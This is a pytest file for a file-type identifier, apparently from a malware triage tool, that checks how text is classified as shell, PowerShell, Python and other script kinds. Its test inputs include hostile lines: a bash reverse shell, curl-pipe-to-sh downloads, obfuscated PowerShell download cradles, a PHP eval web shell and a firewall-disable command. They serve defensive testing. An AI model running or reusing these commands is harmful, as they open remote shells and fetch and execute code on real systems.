import pytest
from hypothesis import given
from hypothesis import strategies as st

from vedette.triage.identify import identify
from vedette.triage.kinds import Kind

LINES = [
    ("echo aGVsbG8= | base64 -d | sh", Kind.SHELL),
    ("find . -name '*.log' -mtime +7 -exec rm {} \\;", Kind.SHELL),
    ("powershell -nop -w hidden -enc SQBFAFgA", Kind.POWERSHELL),
    ("Get-ChildItem $env:TEMP | Where-Object { $_.Length -gt 5 }", Kind.POWERSHELL),
    ("import os;exec(__import__('base64').b64decode('x'))", Kind.PYTHON),
    ('Set o = CreateObject("WScript.Shell")\no.Run "calc"', Kind.VBSCRIPT),
    ('Sub AutoOpen()\n  Dim s As String\n  Shell "calc"\nEnd Sub\n', Kind.VBA),
    ("@echo off\nreg add HKCU\\x /v y", Kind.BATCH),
    ("var a=new ActiveXObject('WScript.Shell');a.Run('x')", Kind.JAVASCRIPT),
    ("s=`which sh`; $s -c 'curl http://198.51.100.7 | sh'", Kind.SHELL),
    ("bash -i >& /dev/tcp/198.51.100.1/4444 0>&1", Kind.SHELL),
    ("a=cu;b=rl;$a$b http://198.51.100.1|sh", Kind.SHELL),
    ("i`e`x (iw`r http://198.51.100.7/a)", Kind.POWERSHELL),
    ("&(\"{1}{0}\"-f'X','IE') 'x'", Kind.POWERSHELL),
    ("-join((101,120)|%{[char]$_})", Kind.POWERSHELL),
    ("_ = lambda x: __import__('zlib').decompress(x);exec(_(b'=='))", Kind.PYTHON),
    ("%comspec:~0,1%md /c calc", Kind.BATCH),
    ("s^e^t x=c&&call %x%alc", Kind.BATCH),
    ("$a = Get-Date\nreg add HKCU\\x /v y /d $a /f\nWrite-Host $env:TEMP", Kind.POWERSHELL),
    ("netsh advfirewall set allprofiles state off", Kind.BATCH),
    ("Execute(Chr(101)&Chr(120)&Chr(105))", Kind.VBSCRIPT),
    ('require("child_process").exec("curl http://198.51.100.1|sh")', Kind.JAVASCRIPT),
    ("(()=>{const h=atob('aHR0');fetch(h).then(r=>r.text()).then(eval)})()", Kind.JAVASCRIPT),
    ("export interface A { x: string; y?: number }\nexport const f = (a: A): void => {};", Kind.TYPESCRIPT),
    ('use strict;\nmy $x = shift;\nprint "$x\\n";\n', Kind.PERL),
    ("require 'socket'\nclass A\n  def initialize(x)\n    @x = x\n  end\nend\n", Kind.RUBY),
    ("local x = require('os')\nif x then\n  x.execute('ls')\nend\n", Kind.LUA),
    ("<html><head><hta:application id='x'></head></html>", Kind.HTA),
    ("<job><script language='JScript'>var a;</script></job>", Kind.WSF),
    ("<svg xmlns='http://www.w3.org/2000/svg'></svg>", Kind.SVG),
    ("<?xml version='1.0'?><root/>", Kind.XML),
    ("[InternetShortcut]\nURL=http://x.invalid\n", Kind.URL),
    ("From: a@b.invalid\nTo: c@d.invalid\nSubject: x\nMIME-Version: 1.0\n\nhello", Kind.MAIL),
    ('[project]\nname = "x"\nversion = "1"\n', Kind.TOML),
    ('#include <stdio.h>\nint main(void){printf("x");return 0;}', Kind.TEXT),
    ("Permission is hereby granted, free of charge, to any person who copies this.", Kind.TEXT),
    ("aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ=", Kind.TEXT),
    ("<?php eval($_POST[0]);", Kind.PHP),
    ("<html><body>x</body></html>", Kind.HTML),
    ('{"a": 1, "b": [2]}', Kind.JSON),
    ("a: 1\nb: 2\n", Kind.YAML),
    ("[x]\na=1\n", Kind.INI),
    ("We like find and grep, and use them on every day that comes.", Kind.TEXT),
]


@pytest.mark.parametrize(("text", "kind"), LINES)
def test_a_text_is_what_it_reads_like(text: str, kind: Kind) -> None:
    assert identify(text.encode()) is kind
    assert identify(text.encode("utf-16")) is kind


def test_a_name_decides_only_where_content_leaves_it_open() -> None:
    assert identify(b"x = 1\n", "a.py") is Kind.PYTHON
    assert identify(b"x = 1\n", "a.js") is Kind.JAVASCRIPT
    assert identify(b"import os\n\ndef f(x):\n    return os.environ[x]\n", "a.txt") is Kind.PYTHON
    assert identify(b"\x7fELF" + bytes(60), "a.py") is Kind.ELF
    assert identify(b"<html><script>x</script></html>", "a.hta") is Kind.HTA
    assert identify(b"") is Kind.EMPTY
    assert identify(bytes(range(256)) * 4) is Kind.UNKNOWN


def test_a_first_line_says_who_reads_a_script() -> None:
    for line, kind in (
        ("#!/usr/bin/env python3", Kind.PYTHON),
        ("#!/bin/bash -e", Kind.SHELL),
        ("#!/usr/bin/env -S node --x", Kind.JAVASCRIPT),
        ("#!/usr/bin/perl -w", Kind.PERL),
        ("#!/usr/bin/env pwsh", Kind.POWERSHELL),
    ):
        assert identify(f"{line}\nx\n".encode()) is kind


def test_what_stands_after_much_that_says_nothing_is_seen() -> None:
    code = b"import os\nos.system('x')\n\ndef f(self):\n    return None\n"
    assert identify(b"\n" * 50_000 + code) is Kind.PYTHON
    assert identify(b"# nothing\n" * 5_000 + code) is Kind.PYTHON
    shell = b"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')\n$env:x\n"
    assert identify(b"word " * 5_000 + shell * 3) is Kind.POWERSHELL


def test_text_without_a_mark_in_two_bytes_a_letter_is_text() -> None:
    line = "Get-ChildItem $env:TEMP | Out-Null"
    assert identify(line.encode("utf-16-le")) is Kind.POWERSHELL
    assert identify(line.encode("utf-16-be")) is Kind.POWERSHELL


def test_flash_that_begins_erased_is_no_row_of_letters() -> None:
    assert identify(b"\xff" * 65_536 + b"hsqs" + bytes(92)) is Kind.FIRMWARE
    assert identify("ÿ".encode("latin-1") * 20 + b" a name\n") is not Kind.FIRMWARE


@given(st.binary(max_size=600), st.sampled_from(["", "a.js", "a.hta", "a.exe", "noext", "."]))
def test_any_bytes_are_something(data: bytes, name: str) -> None:
    assert identify(data, name) in Kind


@pytest.mark.parametrize(
    "text",
    [
        "/.\n/usr/sbin/adduser\n/usr/bin/systemctl\n/usr/share/doc\n",
        "0123456789abcdef0123456789abcdef  usr/bin/systemd-detect-virt\n" * 3,
    ],
)
def test_a_list_of_files_is_no_script(text: str) -> None:
    assert identify(text.encode()) is Kind.TEXT
    assert (
        identify(b"/usr/bin/curl http://198.51.100.7/x | sh\n/bin/rm -rf /tmp/x\n/bin/true\n") is Kind.SHELL
    )


def test_a_text_about_code_is_no_code() -> None:
    text = b"# Use\n\n```sh\ncurl -s https://a.invalid/i.sh | sh\nsudo systemctl enable a\nexport A=1\n```\n"
    assert identify(text, "README.md") is Kind.TEXT
    assert identify(b"#!/bin/sh\n" + text, "README.md") is Kind.SHELL


def test_a_description_of_a_package_is_no_script_whatever_stands_in_it() -> None:
    prose = b'\nmkdir -p /tmp/x && cd /tmp/x\nfor f in *; do echo "$f"; done\nexport A=1\n'
    head = b"Metadata-Version: 2.4\nName: x\nRequires-Python: >= 3.10\n"
    for name in ("x-1.dist-info/METADATA", "x-1/PKG-INFO"):
        assert identify(head + prose, name) is Kind.TEXT
        assert identify(prose, name) is Kind.SHELL
    assert identify(head + prose, "x-1/run") is Kind.SHELL


def test_go_is_known_by_its_first_words() -> None:
    text = b'package main\n\nimport (\n\t"os/exec"\n)\n\nfunc main() {\n\texec.Command("ls").Run()\n}\n'
    assert identify(text) is Kind.GO
    assert identify(text, "main.go") is Kind.GO
    assert identify(b"package up the files\nthen send them\n") is Kind.TEXT
